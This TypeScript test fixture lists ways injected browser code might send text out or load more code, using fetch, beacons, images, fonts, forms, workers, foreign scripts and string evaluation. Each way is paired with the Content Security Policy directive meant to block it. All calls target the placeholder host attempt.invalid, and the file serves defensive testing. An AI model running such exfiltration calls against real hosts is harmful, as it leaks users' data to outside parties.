/**
 * What injected code could try in order to send a text away, or to become more code; beside each, the
 * directive of the policy that has to stop it. The functions run inside the page or its worker, and
 * so stand by themselves. Addresses end in `.invalid`, a name that leads nowhere.
 */
interface Attempt {
  directive: string;
  act: () => unknown;
}

const network: Record<string, Attempt> = {
  fetch: {
    directive: 'connect-src',
    act: () => fetch('http://attempt.invalid/fetch', { method: 'POST', body: 'text' }),
  },
  XMLHttpRequest: {
    directive: 'connect-src',
    act: () => {
      const request = new XMLHttpRequest();
      request.open('POST', 'http://attempt.invalid/xhr');
      request.send('text');
    },
  },
  WebSocket: {
    directive: 'connect-src',
    act: () => new WebSocket('ws://attempt.invalid/socket').url,
  },
  EventSource: {
    directive: 'connect-src',
    act: () => new EventSource('http://attempt.invalid/events').url,
  },
  'foreign module': {
    directive: 'script-src-elem',
    act: () => import(['http://attempt.invalid', 'module.js'].join('/')),
  },
};

const evaluation: Record<string, Attempt> = {
  'code from a string': {
    directive: 'require-trusted-types-for',
    // Not at once: what a debugger runs is exempt from this directive while it runs.
    act: () =>
      setTimeout(() => {
        try {
          // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call
          new Function('return 1')();
        } catch {
          // A worker that throws is replaced, and the report would be lost with it.
        }
      }),
  },
};

/** From the page. */
export const attemptsFromPage: Record<string, Attempt> = {
  ...network,
  beacon: {
    directive: 'connect-src',
    act: () => navigator.sendBeacon('http://attempt.invalid/beacon', 'text'),
  },
  image: {
    directive: 'img-src',
    act: () => {
      new Image().src = 'http://attempt.invalid/image.png?text';
    },
  },
  'style sheet': {
    directive: 'style-src-elem',
    act: () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'http://attempt.invalid/style.css?text';
      document.head.append(link);
    },
  },
  font: {
    directive: 'font-src',
    act: () => new FontFace('attempt', 'url(http://attempt.invalid/font.woff2?text)').load(),
  },
  frame: {
    directive: 'frame-src',
    act: () => {
      const frame = document.createElement('iframe');
      frame.src = 'http://attempt.invalid/frame?text';
      document.body.append(frame);
    },
  },
  form: {
    directive: 'form-action',
    act: () => {
      const form = document.createElement('form');
      form.action = 'http://attempt.invalid/form';
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  },
  'base address': {
    directive: 'base-uri',
    act: () => {
      const base = document.createElement('base');
      base.href = 'http://attempt.invalid/';
      document.head.append(base);
    },
  },
  ...evaluation,
  'foreign script': {
    directive: 'require-trusted-types-for',
    act: () => {
      document.createElement('script').src = 'http://attempt.invalid/script.js';
    },
  },
  'foreign script from markup': {
    directive: 'require-trusted-types-for',
    act: () => {
      const markup = '<script src="http://attempt.invalid/script.js"></script>';
      document.body.append(document.createRange().createContextualFragment(markup));
    },
  },
  'inline script': {
    directive: 'require-trusted-types-for',
    act: () => {
      document.createElement('script').textContent = 'document.title = "injected"';
    },
  },
  'inline style': {
    directive: 'style-src-elem',
    act: () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);
    },
  },
  'markup from a string': {
    directive: 'require-trusted-types-for',
    act: () => {
      document.createElement('div').innerHTML = '<b>text</b>';
    },
  },
  'foreign worker': {
    directive: 'require-trusted-types-for',
    act: () => new Worker('http://attempt.invalid/worker.js'),
  },
  'worker from a string': {
    directive: 'require-trusted-types-for',
    act: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  },
  'rules of its own': {
    directive: 'trusted-types',
    act: () => {
      const { trustedTypes } = self as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy('own', { createHTML: (markup: string) => markup });
    },
  },
};

/** From the worker in which texts are analysed. */
export const attemptsFromWorker: Record<string, Attempt> = { ...network, ...evaluation };
